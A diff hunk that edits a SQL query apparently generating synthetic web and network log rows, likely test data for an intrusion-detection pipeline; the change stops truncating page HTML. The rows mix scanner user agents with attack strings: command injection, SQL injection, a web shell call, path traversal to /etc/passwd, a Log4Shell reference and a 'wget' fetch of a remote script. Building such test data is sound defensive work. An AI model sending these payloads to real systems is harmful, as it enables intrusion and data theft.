@@ -15,7 +15,7 @@ SEEN = """
 SELECT page_id, CONCAT('cap', CAST(page_id % 5 AS STRING)) AS capture_id, CONCAT('u', CAST(page_id % 6 AS STRING)) AS uid, page_id AS ord, url AS uris,
        CASE page_id % 9 WHEN 0 THEN 'Nikto/2.1' WHEN 1 THEN 'OpenVAS' WHEN 2 THEN 'Mozilla nmap-nse version' WHEN 3 THEN 'masscan/1.0' ELSE 'Mozilla/5.0' END AS agents,
        CASE page_id % 4 WHEN 0 THEN 'POST' WHEN 1 THEN 'GET' ELSE NULL END AS method,
-       CONCAT(url, ' ', substr(html, 1, 300), CASE page_id % 11 WHEN 0 THEN ' cmd.exe /c dir; whoami' WHEN 1 THEN ' q=1 union select a from b' WHEN 2 THEN ' /shell.php?cmd=ls token=abc' WHEN 3 THEN ' multipart/form-data filename=a.jsp'
+       CONCAT(url, ' ', html, CASE page_id % 11 WHEN 0 THEN ' cmd.exe /c dir; whoami' WHEN 1 THEN ' q=1 union select a from b' WHEN 2 THEN ' /shell.php?cmd=ls token=abc' WHEN 3 THEN ' multipart/form-data filename=a.jsp'
          WHEN 4 THEN ' CVE-2021-44228 eval (x)' WHEN 5 THEN ' wget http://x/a.sh' WHEN 6 THEN ' file=../../etc/passwd' WHEN 7 THEN ' rO0AB <script>' ELSE '' END) AS text,
        CAST(CASE page_id % 7 WHEN 0 THEN 401 WHEN 1 THEN 200 WHEN 2 THEN 403 ELSE 404 END AS INT) AS status, page_id % 3 = 0 AS login_path,
        CASE page_id % 5 WHEN 1 THEN 'USER' WHEN 2 THEN 'PASS' ELSE NULL END AS ftp_command, CAST(CASE page_id % 8 WHEN 2 THEN 530 WHEN 4 THEN 230 ELSE NULL END AS INT) AS ftp_code, CAST(page_id % 4 AS BIGINT) AS ssh_attempts,
